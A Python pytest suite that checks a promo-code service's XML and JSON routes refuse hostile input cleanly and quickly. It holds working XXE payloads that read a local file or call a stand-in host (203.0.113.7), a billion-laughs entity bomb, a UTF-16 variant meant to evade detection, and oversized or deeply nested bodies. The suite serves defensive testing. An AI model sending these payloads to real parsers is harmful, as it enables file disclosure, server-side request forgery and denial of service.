"""Hostile XML on every route that parses XML, hostile JSON on every JSON route (issue 9, item 3):
each is refused in the protocol's own error shape, reads no file, opens no connection, changes
nothing, and is answered in under a second with bounded memory. Requests are authenticated, so
the hostile body reaches the parser."""

import gc
import json
import socket
import time
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from tests.security.world import (
    CRM_LOGIN,
    CRM_LOGOUT,
    CRM_REQUEST,
    DEMO_DEVICE,
    MAESTRA_ASYNC,
    MAESTRA_SYNC,
    MEWS_ADD,
    MEWS_DELETE,
    MEWS_GET_ALL,
    SYNCTV_CREATE,
    SYNCTV_INDEX,
    SYNCTV_LOGIN,
    SYNCTV_LOGOUT,
    SYNCTV_SHOW,
    SYNCTV_VALIDATE,
    Answer,
    World,
    call,
    maestra_event,
    mews_body,
    request_event,
    scan,
)
from tests.support.deployment import use_sender

pytestmark = pytest.mark.integration

MAX_SECONDS = 1.0
MAX_PEAK_BYTES = 50 * 1024 * 1024
MARKER = "SECRET-FILE-MARKER-7f3a9c"
MB = 1024 * 1024


@pytest.fixture(scope="module")
def marker_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("xxe") / "marker.txt"
    path.write_text(MARKER)
    return path


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch, dynamodb_local: Any) -> Iterator[list[Any]]:
    """Fail on any connection other than the test's own DynamoDB Local."""
    attempts: list[Any] = []
    real_connect = socket.socket.connect
    endpoint_port = int(dynamodb_local.endpoint.rsplit(":", 1)[1])

    def connect(self: socket.socket, address: Any) -> Any:
        if isinstance(address, tuple) and address[1] == endpoint_port:
            return real_connect(self, address)
        attempts.append(address)
        raise AssertionError(f"network access attempted: {address!r}")

    monkeypatch.setattr(socket.socket, "connect", connect)
    yield attempts
    assert attempts == [], "a hostile body made the service open a connection"


@pytest.fixture(autouse=True)
def queued() -> Iterator[list[dict[str, Any]]]:
    sent: list[dict[str, Any]] = []
    use_sender(sent.append)
    yield sent
    use_sender(None)
    assert sent == [], "a hostile request was queued"


# ---------------------------------------------------------------------- hostile XML


def xml_bodies(marker: Path) -> dict[str, bytes]:
    laughs = b'<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    return {
        "external entity (file)": (
            b'<?xml version="1.0"?><!DOCTYPE operation [<!ENTITY x SYSTEM "file://'
            + str(marker).encode()
            + b'">]><operation><pointOfContact>&x;</pointOfContact><email>&x;</email></operation>'
        ),
        "external entity (url)": (
            b'<?xml version="1.0"?><!DOCTYPE operation [<!ENTITY x SYSTEM '
            b'"http://203.0.113.7/evil">]><operation><email>&x;</email></operation>'
        ),
        "parameter entity": (
            b'<?xml version="1.0"?><!DOCTYPE operation [<!ENTITY % p SYSTEM '
            b'"http://203.0.113.7/p.dtd"> %p;]><operation/>'
        ),
        "billion laughs": (
            b'<?xml version="1.0"?><!DOCTYPE operation [' + laughs + b"]>"
            b"<operation><email>&lol9;</email></operation>"
        ),
        "external dtd": (
            b'<?xml version="1.0"?><!DOCTYPE operation SYSTEM "http://203.0.113.7/evil.dtd">'
            b"<operation/>"
        ),
        # The same file entity in UTF-16: no "<!DOCTYPE" bytes for a naive check to see.
        "external entity in utf-16": (
            '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE operation [<!ENTITY x SYSTEM '
            f'"file://{marker}">]><operation><email>&x;</email></operation>'
        ).encode("utf-16"),
        "1 MB body": b"<operation><email>" + b"a" * MB + b"</email></operation>",
        "10 MB body": b"<operation><email>" + b"a" * (10 * MB) + b"</email></operation>",
        "nested 10,000 deep": b"<operation>" + b"<a>" * 10_000 + b"</a>" * 10_000 + b"</operation>",
        "invalid utf-8": b'<?xml version="1.0" encoding="UTF-8"?><operation><email>\xff\xfe\xc3'
        b"</email></operation>",
    }


def _maestra_xml(function: str) -> Callable[[World, bytes, str], dict[str, Any]]:
    def build(w: World, body: bytes, content_type: str) -> dict[str, Any]:
        event = maestra_event(
            function,
            "IssuePromoCodeFromPool",
            b"",
            authorization=f"SecretKey {w.maestra_key}",
            content_type=content_type,
        )
        return _with_body(event, body)

    return build


def _synctv_xml(function: str, **path: str) -> Callable[[World, bytes, str], dict[str, Any]]:
    def build(w: World, body: bytes, content_type: str) -> dict[str, Any]:
        query = (
            {"code": "SPRING-7KQ3", "device": DEMO_DEVICE} if function == SYNCTV_VALIDATE else None
        )
        cookie = w.synctv_admin if function in (SYNCTV_INDEX, SYNCTV_SHOW, SYNCTV_CREATE) else None
        event = request_event(
            function,
            content_type=content_type,
            query=query,
            path_parameters=path or None,
            cookie=cookie,
        )
        return _with_body(event, body)

    return build


def _with_body(event: dict[str, Any], body: bytes) -> dict[str, Any]:
    import base64

    # Bodies that may not be valid text travel base64-encoded, as API Gateway sends them.
    return {**event, "body": base64.b64encode(body).decode(), "isBase64Encoded": True}


XML_ROUTES: dict[str, Callable[[World, bytes, str], dict[str, Any]]] = {
    MAESTRA_SYNC: _maestra_xml(MAESTRA_SYNC),
    MAESTRA_ASYNC: _maestra_xml(MAESTRA_ASYNC),
    # SyncTV reads an XML body as parameters on every route (Rails merges them).
    SYNCTV_LOGIN: _synctv_xml(SYNCTV_LOGIN),
    SYNCTV_LOGOUT: _synctv_xml(SYNCTV_LOGOUT),
    SYNCTV_INDEX: _synctv_xml(SYNCTV_INDEX, offer_id="2"),
    SYNCTV_SHOW: _synctv_xml(SYNCTV_SHOW, offer_id="2", id="1"),
    SYNCTV_CREATE: _synctv_xml(SYNCTV_CREATE, offer_id="2"),
    SYNCTV_VALIDATE: _synctv_xml(SYNCTV_VALIDATE),
}
XML_CASES = list(xml_bodies(Path("/x")))


def protocol_error(function: str, answer: Answer) -> None:
    """The route's own refusal of a malformed request."""
    assert "Traceback" not in answer.body
    if function in (MAESTRA_SYNC, MAESTRA_ASYNC):
        assert answer.status == 400, answer.body[:300]
        root = etree.fromstring(answer.body.encode())
        assert root.tag == "result"
        assert root.findtext("status") == "ProtocolError"
        assert root.findtext("httpStatusCode") == "400"
    else:
        assert answer.status == 400, answer.body[:300]
        root = etree.fromstring(answer.body.encode())
        assert root.tag == "ssap"
        assert root.findtext("response/code") == "-2"
        assert not answer.cookies


def measured(function: str, event: dict[str, Any]) -> tuple[Answer, float, int]:
    # What earlier tests of the suite left on the heap is collected and frozen first: a full
    # collection over it (about a second late in the suite, under tracemalloc) is the test
    # process's cost, not this request's, while what the request allocates is still collected.
    gc.collect()
    gc.freeze()
    tracemalloc.start()
    started = time.perf_counter()
    try:
        answer = call(function, event)
        elapsed = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        gc.unfreeze()
    return answer, elapsed, peak


@pytest.mark.parametrize("case", XML_CASES)
@pytest.mark.parametrize("function", XML_ROUTES)
def test_hostile_xml_is_refused_quickly_in_the_protocols_shape_reading_nothing(
    world: World, marker_file: Path, function: str, case: str
) -> None:
    event = XML_ROUTES[function](world, xml_bodies(marker_file)[case], "application/xml")
    before = scan(world)

    answer, elapsed, peak = measured(function, event)

    protocol_error(function, answer)
    assert MARKER not in answer.body
    assert "lollollol" not in answer.body
    assert elapsed < MAX_SECONDS, f"{elapsed:.2f}s"
    assert peak < MAX_PEAK_BYTES, f"{peak / MB:.1f} MB"
    assert scan(world) == before


@pytest.mark.parametrize("function", [MAESTRA_SYNC, MAESTRA_ASYNC])
@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", ""])
def test_maestra_refuses_a_body_of_the_wrong_content_type(
    world: World, function: str, content_type: str
) -> None:
    body = b"<operation><promoCode><pool><ids><externalId>welcome</externalId></ids></pool>"
    body += b"</promoCode></operation>"
    event = XML_ROUTES[function](world, body, content_type)
    event["headers"]["accept"] = "application/xml"
    before = scan(world)

    answer = call(function, event)

    protocol_error(function, answer)
    assert "Content-Type" in answer.body
    assert scan(world) == before


def test_synctv_login_does_not_read_credentials_from_a_body_of_the_wrong_content_type(
    world: World,
) -> None:
    body = b"<session><email>admin@demo.example</email><password>demo-synctv-password</password>"
    body += b"</session>"
    before = scan(world)

    answer = call(SYNCTV_LOGIN, XML_ROUTES[SYNCTV_LOGIN](world, body, "text/plain"))

    protocol_error(SYNCTV_LOGIN, answer)
    assert scan(world) == before  # no session started


# ---------------------------------------------------------------------- hostile JSON


def _nested(depth: int) -> bytes:
    return b'{"a":' * depth + b"1" + b"}" * depth


JSON_CASES: dict[str, Callable[[dict[str, Any]], bytes]] = {
    "huge integer": lambda valid: json.dumps(valid).encode()[:-1] + b', "n": ' + b"9" * 5000 + b"}",
    "huge float": lambda valid: json.dumps(valid).encode()[:-1] + b', "n": 1e999999}',
    "NaN": lambda valid: json.dumps(valid).encode()[:-1] + b', "n": NaN}',
    "nested 100,000 deep": lambda valid: _nested(100_000),
    "nested 100,000 deep in a valid request": (
        lambda valid: (
            json.dumps(valid).encode()[:-1] + b', "n": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
        )
    ),
    "duplicate keys": lambda valid: (
        json.dumps(valid).encode()[:-1] + b", " + json.dumps(valid).encode()[1:]
    ),
    "2 MB body": lambda valid: json.dumps({**valid, "pad": "a" * (2 * MB)}).encode(),
    "invalid utf-8": lambda valid: json.dumps(valid).encode()[:-1] + b', "n": "\xff\xfe"}',
    "top-level 1,001-item array": lambda valid: json.dumps([valid] * 1001).encode(),
}


# route -> (valid body, the same body with wrong types, with a 1,001-item array where one fits)
JSON_ROUTES: dict[str, tuple[Callable[[World], dict[str, Any]], ...]] = {
    MEWS_GET_ALL: (
        lambda w: mews_body(w.mews, Limitation={"Count": 10}),
        lambda w: mews_body(w.mews, Limitation={"Count": "10"}, VoucherIds="all"),
        lambda w: mews_body(
            w.mews, Limitation={"Count": 10}, VoucherCodeIds=[w.code_uuids["SPRING-7KQ3"]] * 1001
        ),
    ),
    MEWS_ADD: (
        lambda w: mews_body(
            w.mews,
            VoucherCodeParameters=[
                {"VoucherId": "fe568bbd-1ecb-4bb2-bf77-96c3698de20d", "Value": "H"}
            ],
        ),
        lambda w: mews_body(w.mews, VoucherCodeParameters={"VoucherId": 1, "Value": 2}),
        lambda w: mews_body(
            w.mews,
            VoucherCodeParameters=[
                {"VoucherId": "fe568bbd-1ecb-4bb2-bf77-96c3698de20d", "Value": f"H-{i}"}
                for i in range(1001)
            ],
        ),
    ),
    MEWS_DELETE: (
        lambda w: mews_body(w.mews, VoucherCodeIds=[w.code_uuids["WELCOME-R3XM"]]),
        lambda w: mews_body(w.mews, VoucherCodeIds=w.code_uuids["SPRING-7KQ3"]),
        lambda w: mews_body(w.mews, VoucherCodeIds=[w.code_uuids["SPRING-7KQ3"]] * 1001),
    ),
    CRM_LOGIN: (
        lambda w: {"username": "MPAdministrator", "password": "not-it", "organisation": "demo"},
        lambda w: {"username": 1, "password": True, "organisation": None},
        lambda w: {"username": ["MPAdministrator"] * 1001, "password": "x", "organisation": "demo"},
    ),
    CRM_LOGOUT: (
        lambda w: {"token": "not-a-live-token"},
        lambda w: {"token": 1.5},
        lambda w: {"token": [w.crm_token] * 1001},
    ),
    CRM_REQUEST: (
        lambda w: {
            "token": w.crm_token,
            "promotion_campaign_identifier": {"alternative_code": "ZZ"},
        },
        lambda w: {
            "token": w.crm_token,
            "promotion_campaign_identifier": "BG4",
            "rewards_participant_identifier": {"number": 618},
        },
        lambda w: {
            "token": w.crm_token,
            "promotion_campaign_identifier": {"alternative_code": "BG4"},
            "rewards_participant_identifier": {"number": "RP0000000618"},
            "fields_set": ["code"] * 1001,
        },
    ),
    MAESTRA_SYNC: (
        lambda w: {"promoCode": {"pool": {"ids": {"externalId": "nosuch"}}}},
        lambda w: {"customer": "42", "promoCode": {"pool": {"ids": {"externalId": 5}}}},
        lambda w: {
            "customer": {"ids": {"webSiteUserId": "42"}},
            "promoCode": {"pool": {"ids": {"externalId": ["welcome"] * 1001}}},
        },
    ),
}
JSON_ROUTES[MAESTRA_ASYNC] = JSON_ROUTES[MAESTRA_SYNC]


def json_request(function: str, w: World, raw: bytes) -> dict[str, Any]:
    if function in (MAESTRA_SYNC, MAESTRA_ASYNC):
        event = maestra_event(
            function, "IssuePromoCodeFromPool", b"", authorization=f"SecretKey {w.maestra_key}"
        )
        return _with_body(event, raw)
    return _with_body(request_event(function, content_type="application/json"), raw)


def json_refusal(function: str, answer: Answer, malformed: bool, top_level_array: bool) -> None:
    """The route's own error shape for a malformed (or, with ``malformed`` False, invalid)
    request; never a 5xx or a stack trace."""
    assert "Traceback" not in answer.body
    body = answer.json()
    if function in (MEWS_GET_ALL, MEWS_ADD, MEWS_DELETE):
        # A body that is not an object carries no tokens: Mews answers 401 before reading on.
        assert answer.status == (401 if top_level_array else 400), answer.body[:300]
        assert set(body) == {"Message", "RequestId"}
    elif function in (CRM_LOGIN, CRM_LOGOUT, CRM_REQUEST):
        assert answer.status == 200, answer.body[:300]
        assert body["data"] is None
        expected = ("MALFORMED_REQUEST",) if malformed else ("INVALID_PARAMETER",)
        if not malformed and function == CRM_LOGOUT:
            expected = ("AUTHENTICATION_FAILED",)  # a token that is not a string is no token
        assert body["status"]["code"] in expected, body
    else:
        if malformed:
            assert (answer.status, body["status"]) == (400, "ProtocolError"), body
            assert set(body) == {"status", "errorMessage", "errorId", "httpStatusCode"}
        else:
            assert (answer.status, body["status"]) in ((200, "ValidationError"),), body
            assert body["validationMessages"]


def _check(
    world: World, function: str, raw: bytes, malformed: bool, top_level_array: bool = False
) -> None:
    event = json_request(function, world, raw)
    before = scan(world)

    answer, elapsed, peak = measured(function, event)

    json_refusal(function, answer, malformed, top_level_array)
    assert elapsed < MAX_SECONDS, f"{elapsed:.2f}s"
    assert peak < MAX_PEAK_BYTES, f"{peak / MB:.1f} MB"
    assert scan(world) == before


JSON_PARAMETERS = [
    pytest.param(function, case, id=f"{function}-{case}")
    for function in JSON_ROUTES
    for case in JSON_CASES
]


@pytest.mark.parametrize(("function", "case"), JSON_PARAMETERS)
def test_hostile_json_is_refused_quickly_in_the_protocols_shape(
    world: World, function: str, case: str
) -> None:
    valid = JSON_ROUTES[function][0](world)
    raw = JSON_CASES[case](valid)
    _check(world, function, raw, malformed=True, top_level_array=case.startswith("top-level"))


@pytest.mark.parametrize("function", JSON_ROUTES)
def test_wrong_types_are_refused_in_the_protocols_shape(world: World, function: str) -> None:
    _check(world, function, json.dumps(JSON_ROUTES[function][1](world)).encode(), malformed=False)


@pytest.mark.parametrize("function", JSON_ROUTES)
def test_arrays_of_1001_items_are_refused_in_the_protocols_shape(
    world: World, function: str
) -> None:
    _check(world, function, json.dumps(JSON_ROUTES[function][2](world)).encode(), malformed=False)
